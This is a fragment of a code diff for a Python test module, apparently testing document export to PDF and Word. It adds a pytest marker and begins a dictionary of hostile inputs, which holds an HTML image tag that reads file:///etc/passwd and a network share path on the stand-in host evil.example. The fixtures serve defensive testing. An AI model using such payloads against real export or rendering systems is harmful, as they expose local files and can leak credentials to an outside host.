@@ -18,6 +18,8 @@ from tests.fakes import FakeClock
 from tests.integration.export.pdf.conftest import page_texts
 from tests.integration.export.word.reading import part, words
 
+pytestmark = pytest.mark.no_cover
+
 PAYLOADS = {
     "T01 image": '<b>Approved</b><img src="file:///etc/passwd">',
     "T02 share": r"\\evil.example\share\x.png",
